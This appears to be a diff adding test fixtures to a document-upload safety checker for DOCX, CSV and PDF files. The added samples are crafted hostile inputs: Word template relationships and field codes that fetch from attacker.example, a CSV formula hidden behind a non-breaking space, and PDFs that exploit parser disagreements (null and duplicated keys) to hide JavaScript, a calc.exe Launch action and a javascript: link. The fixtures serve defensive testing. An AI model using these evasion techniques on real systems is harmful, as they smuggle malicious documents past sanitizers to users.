@@ -51,6 +51,15 @@ def docx(settings_rels: str, attached: bool = True) -> bytes:
     return out.getvalue()
 
 
+def renamed(document: bytes, old: str, new: str) -> bytes:
+    """`document` with its part `old` named `new`."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(document)) as source, zipfile.ZipFile(out, "w") as z:
+        for info in source.infolist():
+            z.writestr(new if info.filename == old else info.filename, source.read(info))
+    return out.getvalue()
+
+
 def rels(attributes: str, quote: str = '"', prefix: str = "") -> str:
     element = f"{prefix}:Relationship" if prefix else "Relationship"
     root = f"{prefix}:Relationships" if prefix else "Relationships"
@@ -110,6 +119,15 @@ OFFICE = [
     ("t-typed.docx", docx(rels(f'Id="rId1" Type="{HYPERLINK}" Target="https://attacker.example/t.dotm" '
                                'TargetMode="External"')), "loads an outside address (relationship `rId1`) into "
                                                           "`attachedTemplate`"),
+    # Twenty-first round: Office matches part names whatever their case, and
+    # any TargetMode but `Internal` leaves the package.
+    ("t-case.docx", renamed(docx(rels(f'Id="rId1" Type="{HYPERLINK}" Target="https://attacker.example/t.dotm" '
+                                      'TargetMode="External"')), "word/_rels/settings.xml.rels",
+                            "word/_rels/Settings.xml.rels"),
+     "loads an outside address (relationship `rId1`) into `attachedTemplate`"),
+    ("t-mode.docx", docx(rels(f'Id="rId1" Type="{HYPERLINK}" Target="https://attacker.example/t.dotm" '
+                              'TargetMode="external"')), "loads an outside address (relationship `rId1`) into "
+                                                         "`attachedTemplate`"),
     ("t-dtd.docx", docx(XML + '<!DOCTYPE r [<!ENTITY e "External">]>' + rels(template(mode='TargetMode="&e;"'))[
         len(XML):]), "declares a DTD"),
     ("o-unc.odt", odt(odt_image('xlink:href="&#92;&#92;attacker.example&#92;share&#92;a.png"')),
@@ -366,6 +384,8 @@ CSV_FORMULAS = [
     # Excel takes `sep=|` on the first line as the delimiter (eighth attacker).
     ("sep.csv", b'sep=|\nQuestion|Link\nAgree scope|=HYPERLINK("http://attacker.example/","Open")\n',
      'row 3, column B: `=HYPERLINK("http://attacker.example/"'),
+    # Twenty-first round: not UTF-8, so Excel reads it as Windows-1252, where A0 is a space.
+    ("ansi.csv", b"a,b\n1,\xa0=1+1\n", "row 2, column B: `=1+1`"),
 ]
 # Numbers, phone numbers and a neutralised formula: data, published.
 GOOD_CSV = (b"Name,Phone,Change,Note\nPlanning team,+44 131 623 4300,-5,'=not a formula\n"
@@ -490,6 +510,9 @@ OFFICE_ACTIVE = [
     ("nested.docx", word("word/document.xml", '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
                          'IMPORT "</w:instrText></w:r>' + field(" PAGE ")[5:-6] + '<w:r><w:instrText>.png"</w:instrText>'
                          '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'), f"has a field code IMPORT {FETCHES}"),
+    # Twenty-first round: no name where Word expects one; a field name anywhere in it counts.
+    ("quoted.docx", word("word/document.xml", simple(' "INCLUDEPICTURE" "https://attacker.example/a.png" ')),
+     f"has a field code INCLUDEPICTURE {FETCHES}"),
     ("hyperlink.docx", word("word/document.xml", simple(' HYPERLINK "file://attacker.example/share/x" ')),
      "has a field code HYPERLINK to `file://attacker.example/share/x` (in `word/document.xml`); a document may link "
      "only to web"),
@@ -691,6 +714,20 @@ SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
               b"<< /Type /Filespec /F (a.html) >>"], b"<< /Size 6 /Root 1 0 R >>"), "holds FileAttachment"),
     (raw_pdf([*PAGES, b"<< /Type /Filespec /F (a.html) /EF << /F 5 0 R >> >>", b"<< /Type /EmbeddedFile >>"],
              b"<< /Size 6 /Root 1 0 R >>"), "holds "),
+    # Twenty-first round: pypdf stopped reading a dictionary at a `null` key, and kept the first of a key given
+    # twice; qpdf, PDFium and pdf.js read on and keep the last (the script ran in Chromium's viewer).
+    (raw_pdf([PAGES[0].replace(b">>", b"null /OpenAction " + SCRIPT + b" >>"), *PAGES[1:]],
+             b"<< /Size 4 /Root 1 0 R >>"), "holds OpenAction"),
+    (raw_pdf([*PAGES, b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] /S /Launch "
+                      b"/F (calc.exe) >> >>"], b"<< /Size 5 /Root 1 0 R >>"), "holds Launch"),
+    (raw_pdf([*PAGES, b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://ok.example/) "
+                      b"/URI (javascript:app.alert\\(1\\)) >> >>"], b"<< /Size 5 /Root 1 0 R >>"),
+     "has a link to `javascript:app.alert(1)`"),
+    # Repairs that hide nothing today are refused all the same: each reader repairs in its own way.
+    (raw_pdf([PAGES[0].replace(b">>", b"null /PageMode /UseNone >>"), *PAGES[1:]], b"<< /Size 4 /Root 1 0 R >>"),
+     "is damaged (expected dictionary key but found"),
+    (raw_pdf([PAGES[0].replace(b">>", b"/PageMode /UseNone /PageMode /UseOutlines >>"), *PAGES[1:]],
+             b"<< /Size 4 /Root 1 0 R >>"), "is damaged (dictionary has duplicated key /PageMode"),
 ])
 def test_a_pdf_is_read_whole_not_only_from_its_trailer(data, says):
     from resource_library.files import pdf_problem
